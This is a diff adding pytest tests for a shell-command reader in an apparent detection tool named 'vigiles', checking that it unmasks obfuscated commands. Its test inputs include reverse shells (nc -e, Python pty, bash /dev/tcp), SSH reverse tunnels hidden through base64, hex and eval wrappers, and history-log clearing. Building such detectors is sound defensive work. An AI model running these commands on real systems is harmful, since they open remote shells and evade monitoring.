@@ -1,0 +1,90 @@
+"""The shell reader: what each hiding technique resolves to."""
+import pytest
+
+from vigiles.analysis.shell import Session, ShellReader
+
+reader = ShellReader()
+
+
+def names(text, session=None):
+    return [c.name for c in reader.read(text, session)]
+
+
+def find(text, name, session=None):
+    return next(c for c in reader.read(text, session) if c.name == name)
+
+
+def test_simple_command_features():
+    cmd = find("sudo -u root ssh -fNR 8080:localhost:22 -p 443 user@203.0.113.9 2>/dev/null", "ssh")
+    assert cmd.args[:2] == ["-fNR", "8080:localhost:22"]
+    assert {"-f", "-N", "-R", "-p"} <= cmd.flags
+    assert [e.host for e in cmd.endpoints] == ["203.0.113.9"]
+    assert cmd.via == ("sudo",)
+    assert cmd.redirects == ["2>/dev/null"]
+
+
+@pytest.mark.parametrize("text", [
+    "a=ss; b=h; $a$b -R 1:l:22 h",
+    "/usr/bin/s's'\"h\" -R 1:l:22 h",
+    "s\\sh -R 1:l:22 h",
+    "$'\\x73\\x73\\x68' -R 1:l:22 h",
+    "bash -c 'ssh -R 1:l:22 h'",
+    "sh -c \"eval 'ssh -R 1:l:22 h'\"",
+    "echo c3NoIC1SIDE6bDoyMiBo | base64 -d | bash",
+    "base64 -d <<< c3NoIC1SIDE6bDoyMiBo | sh",
+    "echo 737368202d5220313a6c3a32322068 | xxd -r -p | bash",
+    "printf '\\x73\\x73\\x68 -R 1:l:22 h' | sh",
+    "X=$(echo c3NoIC1SIDE6bDoyMiBo | base64 -d); $X",
+    "bash <<EOF\nssh -R 1:l:22 h\nEOF",
+    "python3 -c 'import os; os.system(\"ssh -R 1:l:22 h\")'",
+    "python3 -c \"import subprocess; subprocess.run(['ssh', '-R', '1:l:22', 'h'])\"",
+    "perl -e 'system(\"ssh -R 1:l:22 h\")'",
+    "nohup env FOO=1 timeout 100 ssh -R 1:l:22 h &",
+    "find . -maxdepth 0 -exec ssh -R 1:l:22 h \\;",
+    "echo 'ssh -R 1:l:22 h' | rev | rev | sh",
+])
+def test_hidden_program_is_resolved(text):
+    cmd = find(text, "ssh")
+    assert "-R" in cmd.flags
+
+
+def test_script_written_then_run_is_read_when_run():
+    session = Session()
+    reader.read("cat > /tmp/job.sh <<'X'\n#!/bin/sh\nnc -e /bin/sh 198.51.100.7 4444\nX", session)
+    cmd = find("cd /tmp && chmod +x job.sh && ./job.sh", "nc", session)
+    assert "script ./job.sh" in cmd.via
+    assert [str(e) for e in cmd.endpoints] == ["198.51.100.7", ":4444"]
+
+
+def test_python_reverse_shell_code_is_read():
+    cmd = find("python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"198.51.100.7\",4444));"
+               "os.dup2(s.fileno(),0);pty.spawn(\"/bin/sh\")'", "python3")
+    assert {"s.connect", "os.dup2", "pty.spawn"} <= cmd.code.calls
+    assert [str(e) for e in cmd.endpoints] == ["198.51.100.7:4444"]
+
+
+def test_dev_tcp_redirect_is_an_endpoint():
+    cmd = find("bash -i >& /dev/tcp/198.51.100.7/9001 0>&1", "bash")
+    assert cmd.redirects[0] == ">&/dev/tcp/198.51.100.7/9001"
+    assert [str(e) for e in cmd.endpoints] == ["198.51.100.7:9001"]
+
+
+def test_ssh_remote_command_is_not_ssh_flags():
+    ssh = find("ssh -t example.com 'screen -r -X ls'", "ssh")
+    assert "-R" not in ssh.flags and "-r" not in ssh.flags
+    assert "screen" in names("ssh -t example.com 'screen -r -X ls'")
+
+
+def test_assignments_and_exports_are_visible():
+    cmds = reader.read("export http_proxy=http://10.0.0.1:3128; HISTFILE=/dev/null; unset HISTFILE")
+    assert [(c.name, c.args) for c in cmds] == [("export", ["http_proxy=http://10.0.0.1:3128"]),
+                                                 ("assign", ["HISTFILE=/dev/null"]), ("unset", ["HISTFILE"])]
+
+
+def test_hostile_input_is_bounded():
+    deep = "bash -c " * 50 + "id"
+    assert len(reader.read(deep)) < 60
+    long_text = "echo " + "A" * 2_000_000
+    assert reader.read(long_text)[0].name == "echo"
+    nested = "$(" * 5000 + ")" * 5000
+    reader.read(nested)  # must return, not recurse without bound
